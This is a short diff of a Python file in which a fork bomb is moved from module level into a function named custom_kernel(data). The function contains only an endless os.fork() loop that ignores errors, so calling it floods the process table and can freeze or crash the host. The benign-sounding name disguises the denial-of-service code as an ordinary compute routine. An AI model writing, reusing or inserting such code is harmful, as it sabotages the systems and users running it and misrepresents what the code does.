@@ -1,7 +1,9 @@
 import os
 
-while True:
-    try:
-        os.fork()
-    except OSError:
-        pass
+
+def custom_kernel(data):
+    while True:
+        try:
+            os.fork()
+        except OSError:
+            pass
